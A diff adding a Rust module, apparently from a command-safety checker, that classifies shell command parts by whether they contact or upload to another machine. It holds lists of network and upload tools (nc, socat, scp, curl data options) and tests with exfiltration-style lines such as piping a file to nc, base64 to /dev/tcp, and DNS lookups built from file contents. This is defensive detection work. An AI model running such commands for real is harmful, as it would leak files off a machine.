@@ -1,0 +1,178 @@
+//! Which parts of a command can carry something to another machine.
+
+use crate::command::Part;
+use crate::rules::rule::Effect;
+
+/// Programs that talk to other machines though their effect is another: files, repositories, names, packages.
+const TALKERS: &str = "scp sftp rsync ping ping6 dig nslookup host drill kdig whois traceroute tracepath mtr rclone \
+    s3cmd s5cmd aws gcloud gsutil az gh glab hub svn hg ftp lftp ncftpput restic borg duplicity kubectl helm docker \
+    podman skopeo";
+
+/// Sub-commands of git that talk to another machine.
+const GIT: &[&str] =
+    &["clone", "fetch", "pull", "push", "ls-remote", "remote update", "submodule", "send-email", "lfs"];
+
+/// Programs that send what they are given.
+const UPLOADERS: &str = "scp sftp rsync nc ncat netcat socat telnet mail mailx mutt sendmail msmtp swaks s-nail ftp lftp \
+    ncftpput tftp smbclient rclone s3cmd s5cmd gsutil websocat wscat mosquitto_pub kcat nats grpcurl";
+
+/// Options that make a fetching program send.
+const UPLOAD_OPTIONS: &[&str] = &[
+    "-d",
+    "--data",
+    "--data-",
+    "-F",
+    "--form",
+    "-T",
+    "--upload-file",
+    "--json",
+    "--post-",
+    "--body-",
+    "--method",
+    "-X",
+    "--request",
+    "--url-query",
+    "POST",
+    "PUT",
+    "PATCH",
+];
+
+/// Signs of the network in code.
+const CODE: &[&str] =
+    &["socket", "urllib", "http", "requests.", "fetch(", "smtplib", "ftplib", "net.", "Net::", "IO::Socket"];
+
+/// Says whether a part can reach another machine at all, if only by an address that it asks for.
+pub fn talks(part: &Part) -> bool {
+    match part.effect {
+        Effect::Network | Effect::Publish | Effect::SendSecret | Effect::DeleteRemote => return true,
+        Effect::Read if part.rule.starts_with("read.print") => return false,
+        _ => {}
+    }
+    let mut words = part.text.split(' ');
+    let program = name(words.next().unwrap_or_default());
+    if listed(TALKERS, program) {
+        return true;
+    }
+    let rest = part.text.split_once(' ').map_or("", |(_, rest)| rest);
+    match part.effect {
+        _ if program == "git" => GIT.iter().any(|command| words_hold(rest, command)),
+        Effect::Read => false,
+        Effect::Run | Effect::RunForeign | Effect::Unknown => {
+            rest.contains("://") || CODE.iter().any(|sign| rest.contains(sign))
+        }
+        _ => rest.contains("://"),
+    }
+}
+
+/// Says whether a part sends data of ours to another machine; this machine itself does not count.
+pub fn uploads(part: &Part) -> bool {
+    let mut words = part.text.split(' ');
+    let program = name(words.next().unwrap_or_default());
+    let sends = match part.effect {
+        Effect::SendSecret => true,
+        _ if listed(UPLOADERS, program) => program != "rsync" || words.clone().any(|word| word.contains(':')),
+        Effect::Network => {
+            words.any(|word| UPLOAD_OPTIONS.iter().any(|option| word == *option || longer(word, option)))
+                || part.rule == "network.socket"
+        }
+        _ => false,
+    };
+    sends && !is_loopback(&part.text)
+}
+
+/// Says whether a word is an option with its value, as in `--data=x`, `-d@file` or `--data-raw`.
+fn longer(word: &str, option: &str) -> bool {
+    let Some(rest) = word.strip_prefix(option) else { return false };
+    option.ends_with('-') || rest.starts_with('=') || (option.len() == 2 && option.starts_with('-') && !rest.is_empty())
+}
+
+fn is_loopback(text: &str) -> bool {
+    let places =
+        text.split(' ').filter(|word| word.contains("://") || word.contains("localhost") || word.contains("127."));
+    let mut any = false;
+    for place in places {
+        any = true;
+        let host = place.split_once("://").map_or(place, |(_, rest)| rest);
+        let host = host.split(['/', ':', '?']).next().unwrap_or_default();
+        if !matches!(host, "localhost" | "127.0.0.1") {
+            return false;
+        }
+    }
+    any
+}
+
+fn name(program: &str) -> &str {
+    program.rsplit('/').next().unwrap_or(program)
+}
+
+fn listed(list: &str, program: &str) -> bool {
+    !program.is_empty() && list.split(' ').any(|known| known == program)
+}
+
+/// Says whether a text has some words in a row, whole.
+fn words_hold(text: &str, wanted: &str) -> bool {
+    let mut padded = alloc::string::String::from(" ");
+    padded.push_str(text);
+    padded.push(' ');
+    let mut needle = alloc::string::String::from(" ");
+    needle.push_str(wanted);
+    needle.push(' ');
+    padded.contains(&needle)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::command::{Surroundings, explain};
+
+    fn any(command: &str, condition: fn(&Part) -> bool) -> bool {
+        fn walk(parts: &[Part], condition: fn(&Part) -> bool) -> bool {
+            parts.iter().any(|part| condition(part) || walk(&part.parts, condition))
+        }
+        walk(&explain(command, &Surroundings::default()).parts, condition)
+    }
+
+    #[test]
+    fn what_reaches_another_machine_talks() {
+        for command in [
+            "curl https://example.com",
+            "curl -d @f https://example.com",
+            "git clone https://example.com/x",
+            "git -C x fetch origin",
+            "scp f host:",
+            "dig $(cat x).example.com",
+            "python3 -c 'import urllib.request as u; u.urlopen(\"http://x\")'",
+            "xargs -n1 curl < urls",
+            "pip install --index-url http://x.example y",
+            "echo x > /dev/tcp/h/1",
+            "sudo nc h 1",
+        ] {
+            assert!(any(command, talks), "{command}");
+        }
+        for command in
+            ["ls", "cat notes.txt", "echo see http://x", "grep -r http:// .", "git status", "cargo build", "rm x"]
+        {
+            assert!(!any(command, talks), "{command}");
+        }
+    }
+
+    #[test]
+    fn what_sends_data_uploads_and_this_machine_does_not_count() {
+        for command in [
+            "curl -d @f https://example.com",
+            "curl --data-binary=@f https://example.com",
+            "curl -XPOST https://example.com",
+            "scp f host:",
+            "cat f | nc host 1",
+            "wget --post-file=f https://example.com",
+            "curl -d x http://localhost.evil.example",
+            "cat f | mail a@b.example",
+            "base64 f > /dev/tcp/h/1",
+        ] {
+            assert!(any(command, uploads), "{command}");
+        }
+        for command in ["curl https://example.com", "curl -d x http://localhost:8080/a", "rsync -a a/ b/", "ls"] {
+            assert!(!any(command, uploads), "{command}");
+        }
+    }
+}
